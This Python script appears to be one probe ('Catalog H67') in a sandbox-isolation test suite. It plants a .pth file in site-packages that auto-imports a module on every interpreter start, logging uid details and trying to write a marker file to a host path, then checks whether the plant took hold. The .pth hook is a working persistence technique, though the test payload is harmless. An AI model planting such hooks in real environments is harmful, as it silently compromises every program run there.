# Catalog H67: poison the environment. Reads {"mode": "plant"|"check", "marker": M} on stdin.
# plant: writes a module and a .pth file that imports it into the env's site-packages (a
#   sitecustomize.py would be shadowed by Debian's own). Whenever the env's interpreter starts
#   (anywhere), the module appends "uid=U euid=E uid_map=[...] argv=..." to
#   /env/poison-log and try to create /var/tmp/pwned-M (a host path).
# check: prints whether the planted files exist and the poison log.
import json
import os
import sys
import sysconfig

params = json.loads(sys.stdin.readline() or "{}")
marker = params.get("marker", "none")
site = sysconfig.get_paths()["purelib"]
payload = '''
import os, sys
try:
    with open("/proc/self/uid_map") as f:
        uid_map = f.read().split()
except OSError:
    uid_map = ["?"]
line = "uid=%d euid=%d uid_map=%s argv=%s\\n" % (os.getuid(), os.geteuid(), uid_map, sys.argv[:2])
for path in ("/env/poison-log", "/var/tmp/pwned-MARKER"):
    try:
        with open(path, "a") as f:
            f.write(line)
    except OSError:
        pass
'''.replace("MARKER", marker)
if params.get("mode") == "plant":
    with open(os.path.join(site, "packvisor_poison.py"), "w") as f:
        f.write(payload)
    with open(os.path.join(site, "zzz_packvisor_poison.pth"), "w") as f:
        f.write("import packvisor_poison\n")
    print("planted", site, "uid", os.getuid(), flush=True)
else:
    print("planted-pth", os.path.exists(os.path.join(site, "zzz_packvisor_poison.pth")),
          flush=True)
    try:
        with open("/env/poison-log") as f:
            sys.stdout.write(f.read())
    except OSError as e:
        print("no poison-log", e.errno, flush=True)
